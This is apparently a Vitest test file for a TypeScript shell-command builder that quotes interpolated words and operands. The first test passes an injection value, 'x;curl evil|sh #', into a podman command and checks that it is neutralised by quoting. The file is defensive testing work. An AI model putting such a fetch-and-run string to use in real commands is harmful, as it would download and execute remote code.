import { expect, expectTypeOf, test } from "vitest";
import { command, joined } from "./command.ts";
import type { Command } from "./command.ts";
import { operand, word } from "./word.ts";

test("code stands as it is, and words are quoted", () => {
  expect(command`printf %s "$VALUE" | podman secret create ${operand("x;curl evil|sh #")} -`).toBe(
    `printf %s "$VALUE" | podman secret create 'x;curl evil|sh #' -`,
  );
  expect(command`sudo ${command`podman network rm ${operand("-rf")}`}`).toBe("sudo podman network rm -- -rf");
});

test("commands stand one behind the other", () => {
  expect(joined([command`cd /tmp`, command`ls ${word("a b")}`], command` &&\n`)).toBe("cd /tmp &&\nls 'a b'");
});

test("no other text is a command or goes into one", () => {
  expectTypeOf<string>().not.toExtend<Command>();
  expectTypeOf<Parameters<typeof command>[1]>().toEqualTypeOf<Command>();
  expectTypeOf<Command>().toExtend<string>();
});
